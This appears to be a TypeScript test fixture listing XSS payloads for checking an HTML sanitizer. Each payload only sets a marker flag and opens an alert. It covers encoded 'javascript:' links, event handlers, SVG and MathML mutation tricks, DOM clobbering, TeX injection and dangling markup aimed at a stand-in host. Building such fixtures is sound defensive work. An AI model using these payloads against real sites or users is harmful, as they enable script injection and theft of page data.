/**
 * Ways in which HTML has been made to run a script where none was to run, one or more of each kind. What each would do is `mark`: set a
 * name on the window that the page stands in, and open a dialog.
 */
const mark = 'top.__marked=1;alert(1)';
const link = `javascript:${mark}`;
/** As entities, so that a filter which reads the text alone does not know it. */
const entities = [...link].map((letter) => `&#${letter.charCodeAt(0)};`).join('');
const hex = [...link].map((letter) => `&#x${letter.charCodeAt(0).toString(16)}`).join('');
const base64 = Buffer.from(`<script>${mark}</script>`).toString('base64');
const tab = '\t';
const nul = '\0';

export const payloads: readonly string[] = [
  // Scripts, plainly and oddly written.
  `<script>${mark}</script>`,
  `<SCRIPT SRC="data:text/javascript,${mark}"></SCRIPT>`,
  `<scr<script>ipt>${mark}</scr</script>ipt>`,
  `<script/x>${mark}</script>`,
  `<script type="module">${mark}</script>`,
  `<svg><script>${mark.replaceAll('=', '&#61;')}</script></svg>`,
  `<svg><script href="data:text/javascript,${mark}" /></svg>`,
  `<svg><script xlink:href="data:text/javascript,${mark}"></script></svg>`,
  // Handlers.
  `<img src="x:x" onerror="${mark}">`,
  `<img src="x:x" ONERROR=${mark}>`,
  `<img/src="x:x"/onerror="${mark}"/>`,
  `<img src="x:x" onerror\n=\n"${mark}">`,
  `<img src="x:x"${nul} on${nul}error="${mark}" onerror="${mark}">`,
  `<img src="x:x" title="a>b" onerror="${mark}">`,
  `<IMG """><img src=x:x onerror="${mark}">">`,
  `<body onload="${mark}">`,
  `<svg onload="${mark}">`,
  `<svg/onload="${mark}"/>`,
  `<input autofocus onfocus="${mark}">`,
  `<p tabindex="1" autofocus onfocus="${mark}">Focus</p>`,
  `<select autofocus onfocus="${mark}"><option>One</option></select>`,
  `<details open ontoggle="${mark}"><summary>More</summary>Text</details>`,
  `<div popover id="pop" onbeforetoggle="${mark}">Pop</div><button popovertarget="pop">Open</button>`,
  `<div style="overflow:scroll;height:1px" onscrollend="${mark}">Text</div>`,
  `<video onloadstart="${mark}"><source onerror="${mark}"></video>`,
  `<audio src="x:x" onerror="${mark}"></audio>`,
  `<marquee onstart="${mark}">Text</marquee>`,
  `<p style="animation:x 1s" onanimationstart="${mark}">Text</p><style>@keyframes x{}</style>`,
  `<a onpointerover="${mark}" oncontentvisibilityautostatechange="${mark}">Text</a>`,
  `<math onclick="${mark}"><mi onmouseover="${mark}">x</mi></math>`,
  // Addresses that are scripts.
  `<a href="${link}">Link</a>`,
  `<a href=" ${link}">Link</a>`,
  `<a href="java${tab}script:${mark}">Link</a>`,
  `<a href="java\nscript:${mark}">Link</a>`,
  `<a href="JaVaScRiPt:${mark}">Link</a>`,
  `<a href="&#1;${link}">Link</a>`,
  `<a href="${entities}">Link</a>`,
  `<a href="${hex}">Link</a>`,
  `<a href="javascript&colon;${mark}">Link</a>`,
  `<a href="java&Tab;script&colon;${mark}">Link</a>`,
  `<a href="vbscript:msgbox(1)">Link</a>`,
  `<a href="data:text/html;base64,${base64}">Link</a>`,
  `<a href="view-source:${link}">Link</a>`,
  `<map name="m"><area shape="default" href="${link}"></map><img src="/icon.svg" usemap="#m">`,
  `<blockquote cite="${link}">Text</blockquote>`,
  `<img src="${link}"><img lowsrc="${link}" dynsrc="${link}">`,
  `<table background="${link}"><tr><td background="${link}">Cell</td></tr></table>`,
  `<svg><a xlink:href="${link}"><text y="9">Link</text></a></svg>`,
  `<svg><a><animate attributeName="href" values="${link}"/><text y="9">Link</text></a></svg>`,
  `<svg><a><set attributeName="href" to="${link}"/><text y="9">Link</text></a></svg>`,
  `<svg><use href="data:image/svg+xml;base64,${Buffer.from(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><a href="${link}"/></svg>`).toString('base64')}#x"/></svg>`,
  `<math><mi href="${link}" xlink:href="${link}">x</mi></math>`,
  `<math><maction actiontype="statusline#${link}" href="${link}">x</maction></math>`,
  // Frames, plug-ins, forms.
  `<iframe src="${link}"></iframe>`,
  `<iframe srcdoc="<script>${mark}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x:x onerror=${mark}&gt;" sandbox="allow-scripts allow-same-origin"></iframe>`,
  `<iframe src="data:text/html,<script>${mark}</script>"></iframe>`,
  `<object data="${link}"></object>`,
  `<object type="text/html" data="data:text/html,<script>${mark}</script>"><param name="src" value="${link}"></object>`,
  `<embed src="${link}">`,
  `<embed type="image/svg+xml" src="data:image/svg+xml;base64,${base64}">`,
  `<applet code="${link}"></applet>`,
  `<form action="${link}"><button>Send</button></form>`,
  `<form id="f"></form><button form="f" formaction="${link}">Send</button><input type="image" formaction="${link}">`,
  `<isindex action="${link}" type="image">`,
  // What changes the page around it.
  `<meta http-equiv="refresh" content="0;url=${link}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<base href="https://elsewhere.example/">`,
  `<link rel="stylesheet" href="data:text/css,*{x:expression(${mark})}">`,
  `<link rel="import" href="data:text/html,<script>${mark}</script>">`,
  `<style>@import "data:text/css,*{background:url(${link})}";</style>`,
  `<style><img src="</style><img src=x:x onerror=${mark}>"></style>`,
  `<p style="width:expression(${mark});background:url(${link});-moz-binding:url(${link});behavior:url(${link})">Text</p>`,
  `<p style="position:fixed;inset:0;z-index:9999">Over the page</p>`,
  // Names that stand over those of the page.
  `<a id="cookie"></a><img name="cookie"><form name="cookie"></form><form name="getElementById"></form><img name="body">`,
  `<a id="__next"></a><a id="__next_f" name="push" href="${link}"></a><iframe name="top" src="about:blank"></iframe>`,
  // Text that becomes elements when it is read a second time.
  `<noscript><p title="</noscript><img src=x:x onerror=${mark}>"></noscript>`,
  `<template><img src=x:x onerror=${mark}></template>`,
  `<template shadowrootmode="open"><img src=x:x onerror=${mark}></template>`,
  `<xmp><p title="</xmp><img src=x:x onerror=${mark}>"></xmp>`,
  `<noembed><img title="</noembed><img src=x:x onerror=${mark}>"></noembed>`,
  `<textarea><img title="</textarea><img src=x:x onerror=${mark}>"></textarea>`,
  `<title><img title="</title><img src=x:x onerror=${mark}>"></title>`,
  `<select><style></select><img src=x:x onerror=${mark}></style>`,
  `<svg><style><img src="</style><img src=x:x onerror=${mark}>"></svg>`,
  `<svg></p><style><a id="</style><img src=x:x onerror=${mark}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x:x onerror=${mark}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x:x onerror=${mark}>`,
  `<math><annotation-xml encoding="text/html"><img src=x:x onerror=${mark}></annotation-xml></math>`,
  `<svg><foreignObject><iframe srcdoc="<script>${mark}</script>"></iframe><p onclick="${mark}">Text</p></foreignObject></svg>`,
  `<svg><desc><img src=x:x onerror=${mark}></desc><title><img src=x:x onerror=${mark}></title></svg>`,
  `<svg><![CDATA[</svg><img src=x:x onerror=${mark}>]]></svg>`,
  `<![CDATA[<img src=x:x onerror=${mark}>]]>`,
  `<!--><img src=x:x onerror=${mark}>-->`,
  `<!-- --!><img src=x:x onerror=${mark}> -->`,
  `<!--[if gte IE 4]><script>${mark}</script><![endif]-->`,
  `<?xml-stylesheet href="${link}"?><?php echo "<img src=x:x onerror=${mark}>" ?>`,
  `&lt;img src=x:x onerror=${mark}&gt;`,
  `&amp;lt;img src=x:x onerror=${mark}&amp;gt;`,
  // Through maths.
  `\\(\\href{${link}}{x}\\)`,
  `\\(\\htmlData{x=1}{y}\\htmlId{cookie}{z}\\includegraphics{${link}}\\)`,
  `\\[\\text{<img src=x:x onerror=${mark}>}\\]`,
  `[mathjax]\\unicode{<img src=x:x onerror=${mark}>}[/mathjax]`,
  // Left open, so that what follows is taken in.
  `<img alt='`,
  `<a href="https://elsewhere.example/?`,
  `<plaintext><img src=x:x onerror=${mark}>`,
];

/** For fields that hold a line of text. */
export const lines: readonly string[] = [
  `"><img src=x:x onerror=${mark}>`,
  `'-alert(1)-'</title></script><script>${mark}</script>`,
  `{{constructor.constructor('${mark}')()}}<svg onload=${mark}>`,
  `</textarea></option></select><img src=x:x onerror=${mark}>`,
];

export const markedName = '__marked';
